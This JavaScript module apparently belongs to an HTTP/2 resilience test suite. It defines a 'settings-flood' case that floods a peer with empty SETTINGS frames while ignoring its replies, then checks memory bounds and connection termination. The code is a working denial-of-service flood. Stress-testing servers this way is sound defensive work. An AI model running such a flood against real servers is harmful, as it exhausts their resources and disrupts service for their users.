import { repeated, settings } from "../raw/frames.js";
import { linkAttack } from "./link.js";

export const settingsFlood = linkAttack({
  name: "settings-flood",
  description: "empty SETTINGS frames by the million to a peer whose answers are never read",
  boundMiB: 200,
  mustEnd: true,
  async onLink({ peer, socket }, work) {
    peer.stopReading();
    await work.flood(socket, repeated(settings(), 1500), { times: 1000, perSecond: 1000 });
  },
});
